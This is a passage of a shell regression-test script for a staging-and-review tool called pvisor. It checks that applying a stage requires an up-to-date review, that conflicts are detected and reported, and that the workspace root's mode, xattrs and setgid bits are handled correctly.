(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/rv.err"; rc=$?
eq "$rc:$(cat "$W/f"):$(ls "$S" | grep -c '^reviewed$')" "0:unreviewed:0" \
    "  ... and a plain apply of the rest too (part of what was reviewed); the applied stage keeps no record"
# an interrupted subset apply of the reviewed changeset, completed by its
# resume, leaves the rest reviewed too (it was refused as "changed since
# its last review", which nothing had)
W=$T/wsrvi; S=$T/strvi
mkdir -p "$W/a" "$W/b"; i=0; while [ $i -lt 6 ]; do echo old > "$W/a/f$i"; echo old > "$W/b/g$i"; i=$((i + 1)); done
stage_run "$W" "$S" 'for f in a/* b/*; do echo new >> $f; done' >/dev/null 2>&1
"$P" status --review --stage "$S" >/dev/null 2>&1
(cd "$W" && PVISOR_TEST_APPLY_DELAY_US=200000 exec "$P" apply --stage "$S" --path a) >/dev/null 2>&1 &
ap=$!; wait_for "$S/apply-intent"; sleep 0.3; kill -KILL $ap; wait $ap 2>/dev/null
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>&1; rc=$?
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/rvi.err"; rc2=$?
eq "$rc:$rc2:$(cat "$W/a/f5" "$W/b/g5" | tr '\n' ' '):$(grep -c 'changed since its last review' "$T/rvi.err")" "0:0:old new old new :0" \
    "  ... and after an interrupted apply --path completed by its resume, a plain apply of the rest"
# a restore after the review
W=$T/wsrr; S=$T/strr
mkdir -p "$W" && echo orig > "$W/f"
stage_run "$W" "$S" 'echo one > f' >/dev/null 2>&1
"$P" checkpoint --stage "$S" --name one >/dev/null 2>&1
stage_run "$W" "$S" 'echo two > f' >/dev/null 2>&1
rr=$(review_id "$S")
"$P" restore one --stage "$S" >/dev/null 2>&1
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/rr.err"; rc=$?
eq "$rc:$(cat "$W/f"):$(grep -c "changed since its last review, which showed changeset $rr" "$T/rr.err")" "1:orig:1" \
    "a plain apply of a stage restored after its review refuses"
"$P" status --review --stage "$S" >/dev/null 2>&1
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>&1; rc=$?
eq "$rc:$(cat "$W/f")" "0:one" "  ... and applies once reviewed again"
# the workspace changed under staged paths since the review (a file the
# stage changes replaced by a directory, a file added in a directory it
# deletes): the conflicts are said, and the ID besides; a --path of a part
# without conflicts is refused by the ID
W=$T/wsrc; S=$T/strc
mkdir -p "$W/d" && echo a > "$W/d/a" && echo f > "$W/f"
stage_run "$W" "$S" 'rm -rf d && echo new > f && echo later > y' >/dev/null 2>&1
"$P" status --review --stage "$S" >/dev/null 2>&1
echo user > "$W/d/new"; rm "$W/f"; mkdir "$W/f"
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/rc.err"; rc=$?
eq "$rc:$(grep -c '^  f: type changed in the workspace since the run' "$T/rc.err"):$(grep -c '^  d/new: exists in the workspace' "$T/rc.err"):$(grep -c "^The stage's changes are also not the changeset [0-9a-f]* its last review showed" "$T/rc.err")" \
    "1:1:1:1" "a reviewed stage whose workspace changed under staged paths: apply names the conflicts, and the changed ID"
(cd "$W" && "$P" apply --stage "$S" --path y) >/dev/null 2>"$T/rc.err"; rc=$?
eq "$rc:$([ -e "$W/y" ] && echo y):$(grep -c 'changed since its last review' "$T/rc.err")" "1::1" \
    "  ... and an apply --path of a part without conflicts is refused by the ID"
# a record that is not one (a crash never leaves one: temp + rename)
W=$T/wsrb; S=$T/strb
mkdir -p "$W" && echo orig > "$W/f"
stage_run "$W" "$S" 'echo one > f' >/dev/null 2>&1
printf 'pvisor-reviewed 1 xyz 1\n' > "$S/reviewed"
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/rb.err"; rc=$?
eq "$rc:$(cat "$W/f"):$(grep -c "could not name its changeset (the stage changed while it was read, or a file of it could not be read), or its record $S/reviewed is unreadable" "$T/rb.err")" \
    "1:orig:1" "a malformed review record refuses a plain apply, saying to review again"

# ---------------------------------------------------------------------------
# The workspace root's own mode and user xattrs (the entry "."): the
# command's chmod or setfattr of the workspace root was kept in the stage
# (upper/ is the root's copy) but neither review, diff nor apply said or
# did anything about it: lost, unseen.  A plain run that only writes in
# the root (its mtime changes; a touch of it too) changes nothing of it.
W=$T/wsroot S=$T/stroot
mkdir -p "$W/sub" && echo a > "$W/f" && chmod 0755 "$W" "$W/sub"
stage_run "$W" "$S" 'echo new > n && mkdir d && touch . && touch -d 2001-01-01 . && chmod 0755 .' >/dev/null 2>&1
eq "$(review_json "$S" | jq -r '[.changeset.changes[].path] | join(" ")'):$(stat -c %a "$W")" "d n:755" \
    "the workspace root: a run that writes in it, touches it and gives it its own mode adds no change of '.'"
apply_matches_oracle root-plain "$W" "$S"
W=$T/wsroot2 S=$T/stroot2
mkdir -p "$W/sub" && echo a > "$W/f" && chmod 0755 "$W" "$W/sub"
xa=
if $have_xattr && setfattr -n user.t -v 1 "$T" 2>/dev/null; then
    setfattr -n user.keep -v host "$W"
    xa='&& setfattr -n user.r -v agent .'
fi
stage_run "$W" "$S" "echo b > f && chmod 0751 . $xa" >/dev/null 2>&1
review_json "$S" > "$T/root.json"
if [ -n "$xa" ]; then want="modified mode,xattr 0755 0751 null"; else want="modified mode 0755 0751 null"; fi
eq "$(jq -r '.changeset.changes[0] | select(.path == ".") | "\(.kind) \(.changes|join(",")) \(.old.mode) \(.new.mode) \(.conflict)"' "$T/root.json")" \
    "$want" "the workspace root's chmod (and setfattr) by the command: review lists '.' first, a mode (and xattrs) change"
"$P" status --review --stage "$S" > "$T/root.txt" 2>&1
check "  ... the human review shows it as 'M ./  (mode 0755 -> 0751)'" grep -q '^  M \./  (mode 0755 -> 0751)' "$T/root.txt"
script -qec "'$P' diff --stage '$S'" /dev/null > "$T/root.tty" 2>&1
eq "$(tr -d '\r' < "$T/root.tty" | grep -A2 -x 'diff --git a/\. b/\.' | tr '\n' ' ')" \
    "diff --git a/. b/. old mode 040755 new mode 040751 " "  ... diff on a terminal says it"
if [ -n "$xa" ]; then
    check "  ... with the xattr" grep -q '^xattr user.r: none -> "agent" (5 bytes)' "$T/root.tty"
fi
"$P" diff --patch --stage "$S" > "$T/root.patch" 2>/dev/null
check "  ... and a patch holds no directory (git cannot apply one)" sh -c "! grep -q 'a/\\. ' '$T/root.patch'"
(cd "$W" && "$P" apply --dry-run --stage "$S") > "$T/root.dry" 2>&1
check "  ... apply --dry-run names it" grep -q '^  chmod    \.$' "$T/root.dry"
apply_matches_oracle root-mode "$W" "$S"
eq "$(stat -c %a "$W")" "751" "  ... and apply gives the workspace root the command's mode"
if [ -n "$xa" ]; then
    eq "$(getfattr --only-values -n user.r "$W" 2>/dev/null):$(getfattr --only-values -n user.keep "$W" 2>/dev/null)" "agent:host" \
        "  ... and its user xattrs"
fi
# directories created, removed, or made from a file: diff on a terminal
# said nothing of them (only a changed directory's mode) while it showed
# and recorded the changeset's ID, which a plain apply then took for a
# review (found by a red-team pass); --stat lists them; into a pipe a
# note on stderr names them (a patch holds no directory)
W=$T/wsdirs S=$T/stdirs
mkdir -p "$W/gone" "$W/keep" && echo x > "$W/f2d" && chmod 0755 "$W/gone"
stage_run "$W" "$S" 'mkdir -m 0777 drop && chmod 0777 drop && mkdir bin && chmod 2777 bin && rmdir gone && rm f2d && mkdir f2d' >/dev/null 2>&1
script -qec "'$P' diff --stage '$S'" /dev/null > "$T/dirs.tty" 2>&1
eq "$(tr -d '\r' < "$T/dirs.tty" | grep -A1 -E '^diff --git a/(bin|drop|gone) ' | grep -v '^--$' | tr '\n' ' ')" \
    "diff --git a/bin b/bin new directory mode 042777 diff --git a/drop b/drop new directory mode 040777 diff --git a/gone b/gone deleted directory mode 040755 " \
    "diff on a terminal shows directories created (their modes) and removed"
eq "$(tr -d '\r' < "$T/dirs.tty" | grep -c '^new directory mode 040755$'):$(tr -d '\r' < "$T/dirs.tty" | grep -c '^deleted file mode 100644$')" "1:1" \
    "  ... and a file that became a directory, both halves"
script -qec "'$P' diff --stat --stage '$S'" /dev/null > "$T/dirs.stat" 2>&1
eq "$(tr -d '\r' < "$T/dirs.stat" | grep -cE '^ (bin|drop|gone|f2d) +\|')" 5 "  ... diff --stat lists each of them"
"$P" diff --stage "$S" > "$T/dirs.patch" 2> "$T/dirs.err"
eq "$(grep -c 'directory mode' "$T/dirs.patch"):$(grep -o 'note: 4 directories.*: bin, drop, f2d, gone$' "$T/dirs.err" | wc -l)" "0:1" \
    "  ... into a pipe the patch holds none, and a note on stderr names them"

# setgid and sticky: a directory keeps them (as for any directory)
W=$T/wsroot3 S=$T/stroot3
mkdir -p "$W" && echo a > "$W/f" && chmod 0755 "$W"
stage_run "$W" "$S" 'chmod 3775 .' >/dev/null 2>&1
eq "$(review_json "$S" | jq -r '.changeset.changes[] | select(.path == ".") | "\(.new.mode) \(.warnings|join(","))"')" \
    "3775 setid" "the workspace root made setgid and sticky: review lists it with the setid warning"
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>&1; rc=$?
eq "$rc:$(stat -c %a "$W")" "0:3775" "  ... and apply keeps both bits, as on any directory"
# the host changed the root's mode since the run: a conflict, nothing written
W=$T/wsroot4 S=$T/stroot4
mkdir -p "$W" && echo a > "$W/f" && chmod 0755 "$W"
stage_run "$W" "$S" 'echo b > f && chmod 0751 .' >/dev/null 2>&1
chmod 0700 "$W"
eq "$(review_json "$S" | jq -r '.changeset.changes[] | select(.path == ".") | "\(.old.mode) \(.conflict)"')" \
    "0700 mode changed in the workspace since the run" \
    "the workspace root's mode changed on the host after the run: review names the conflict"
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/root4.err"; rc=$?
eq "$rc:$(stat -c %a "$W"):$(cat "$W/f"):$(grep -c '^  \.: mode changed in the workspace since the run' "$T/root4.err")" \
    "1:700:a:1" "  ... apply refuses, nothing written, the user's mode kept"
chmod 0755 "$W"
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>&1; rc=$?
eq "$rc:$(stat -c %a "$W"):$(cat "$W/f")" "0:751:b" "  ... its old mode back, apply applies"
if [ -n "$xa" ]; then
    W=$T/wsroot5 S=$T/stroot5
    mkdir -p "$W" && echo a > "$W/f"
    stage_run "$W" "$S" 'setfattr -n user.r -v agent .' >/dev/null 2>&1
    setfattr -n user.r -v user "$W"
    (cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/root5.err"; rc=$?
    eq "$rc:$(getfattr --only-values -n user.r "$W" 2>/dev/null):$(grep -c '^  \.: extended attributes (user\.\*) changed in the workspace since the run' "$T/root5.err")" \
        "1:user:1" "a user xattr of the workspace root changed on the host after the run: apply refuses, the user's kept"
fi
# an apply killed after its intent: the resume reads the root's entry and
# completes it
W=$T/wsroot6 S=$T/stroot6
mkdir -p "$W" && chmod 0755 "$W"
i=0; while [ $i -lt 10 ]; do echo "old $i" > "$W/f$i"; i=$((i + 1)); done
stage_run "$W" "$S" 'for f in f*; do echo new >> $f; done; chmod 0750 .' >/dev/null 2>&1
(cd "$W" && PVISOR_TEST_APPLY_DELAY_US=200000 exec "$P" apply --stage "$S") >/dev/null 2>&1 &
ap=$!; wait_for "$S/apply-intent"; sleep 0.3; kill -9 $ap; wait $ap 2>/dev/null
(cd "$W" && "$P" apply --stage "$S") >/dev/null 2>"$T/root6.err"; rc=$?
eq "$rc:$(stat -c %a "$W"):$(tail -n 1 "$W/f9")" "0:750:new" "an apply with the root's mode killed midway: the resume completes it"
[ $rc -eq 0 ] || diag "$(cat "$T/root6.err")"
# an ordinary user's run and apply, on a workspace of theirs
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null; then
    U=$T/rootu; mkdir -p "$U/ws"; echo a > "$U/ws/f"; chmod 0755 "$U/ws"; chown -R 65534:65534 "$U"
    asu() { setpriv --reuid=65534 --regid=65534 --clear-groups env HOME="$U" XDG_STATE_HOME="$U/state" "$@"; }
    asu "$P" run --stage "$U/st" --workspace "$U/ws" -- sh -c "cd '$U/ws' && chmod 0700 . $xa" >/dev/null 2>&1
    eq "$(asu "$P" status --review --stage "$U/st" --json | jq -r '.changeset.changes[] | select(.path == ".") | "\(.old.mode) \(.new.mode)"')" \
        "0755 0700" "an ordinary user's run that makes the workspace root private: review lists '.'"
    (cd "$U/ws" && asu "$P" apply --stage "$U/st") >/dev/null 2>"$T/rootu.err"; rc=$?
    eq "$rc:$(stat -c %a "$U/ws")" "0:700" "  ... and the user's apply applies it"
    [ $rc -eq 0 ] || diag "$(cat "$T/rootu.err")"
    if [ -n "$xa" ]; then
        eq "$(getfattr --only-values -n user.r "$U/ws" 2>/dev/null)" "agent" "  ... with its user xattr"
    fi
else
    skip "the workspace root's mode in an ordinary user's run" "needs root and setpriv"
fi

# Root's apply gives what it writes the stage object's owner: a chgrp the
# user made after the review (taking a group's write access away) was put
# back by `apply --expect ID`, no conflict (found by a red-team pass). The
# journal records the owner when the run sees the host's ids (as root), and
# a change of it since is a conflict; an ordinary user's run records none.
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null; then
    for case in chgrp none; do
        W=$T/wsown-$case
        mkdir -p "$W" && printf 'echo deploy\n' > "$W/deploy.sh" && chown 0:65534 "$W/deploy.sh" && chmod 0775 "$W/deploy.sh"
        (cd "$W" && "$P" run --safe -- sh -c 'printf "echo deploy v2\n" > deploy.sh') >/dev/null 2>&1
        id=$(cd "$W" && "$P" status --review --json | jq -r .changeset.id)
        [ $case = chgrp ] && chgrp 0 "$W/deploy.sh"
        (cd "$W" && "$P" apply --expect "$id") > "$T/own-$case.out" 2>&1; rc=$?
        if [ $case = chgrp ]; then
            eq "$rc:$(stat -c %u:%g "$W/deploy.sh"):$(cat "$W/deploy.sh"):$(grep -c 'deploy.sh: owner or group changed in the workspace since the run' "$T/own-$case.out")" \
                "1:0:0:echo deploy:1" "root's apply refuses a file whose group the user changed after the review (it put the old group back): a conflict, nothing written"
        else
            eq "$rc:$(stat -c %u:%g "$W/deploy.sh"):$(cat "$W/deploy.sh")" "0:0:65534:echo deploy v2" \
                "  control: without the chgrp it applies, the file's owner and group kept"
        fi
    done
    # a directory: apply gives an existing one no owner, so a chgrp of it
    # since is no conflict (it was, found by a review)
    W=$T/wsown-dir; mkdir -p "$W/d" && chmod 0755 "$W/d"
    (cd "$W" && "$P" run --safe -- chmod 0750 d) >/dev/null 2>&1
    chgrp 65534 "$W/d"
    (cd "$W" && "$P" apply) > "$T/own-dir.out" 2>&1; rc=$?
    eq "$rc:$(stat -c %a:%g "$W/d")" "0:750:65534" "  a directory whose group the user changed since the run: no conflict, its mode applied, the group kept"
    U=$T/ownuser; mkdir -p "$U/ws" && echo a > "$U/ws/f" && chown -R 65534:65534 "$U"
    out=$(cd "$U/ws" && setpriv --reuid=65534 --regid=65534 --clear-groups env HOME="$U" XDG_STATE_HOME="$U/state" \
        sh -c '"$0" run --safe -- sh -c "echo b > f" >/dev/null 2>&1 && "$0" apply 2>&1 >/dev/null; echo $?' "$P")
    eq "$out:$(cat "$U/ws/f"):$(cat "$U"/state/pvisor/runs/*/stage/journal | jq -r 'has("uid")')" "0:b:false" \
        "  an ordinary user's run records no owner (its ids are not the host's), and its apply applies"
else
    skip "root's apply and an owner changed since the review" "needs root and setpriv"
fi

# An ordinary user's apply of a new directory in a setgid directory of a
# group the user is not in: the mkdir inherits the bit (and the review
# shows mode 2755), but apply's chmod of it cleared the bit (the kernel
# does, for a user outside the group), and files made there later got the
# user's group (found by a red-team pass). And a state directory reached
# through the workspace with '..' is outside it: it was refused.
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null; then
    U=$T/sgid; mkdir -p "$U/ws/team" "$U/nat/team" && chown -R 65534:65534 "$U" && chgrp 50 "$U/ws/team" "$U/nat/team" &&
        chmod 2775 "$U/ws/team" "$U/nat/team"
    asu() { (umask 022; setpriv --reuid=65534 --regid=65534 --clear-groups env HOME="$U" XDG_STATE_HOME="$U/state" "$@"); }
    asu mkdir "$U/nat/team/sub"
    (cd "$U/ws" && asu "$P" run --safe -- mkdir team/sub >/dev/null 2>&1 && asu "$P" apply >/dev/null 2>&1); rc=$?
    eq "$rc:$(stat -c %a:%g "$U/nat/team/sub"):$(stat -c %a:%g "$U/ws/team/sub")" "0:2755:50:2755:50" \
        "an ordinary user's applied directory in a setgid directory of another group keeps the bit, as its own mkdir does"
    (cd "$U/ws" && asu env XDG_STATE_HOME="$U/ws/../state2" "$P" run --safe -- true) >/dev/null 2>"$U/dd.err"
    eq "$?:$(wc -c < "$U/dd.err")" "0:0" "a state directory named through the workspace with '..' (outside it) is taken"
else
    skip "an ordinary user's directory in a setgid directory" "needs root and setpriv"
fi
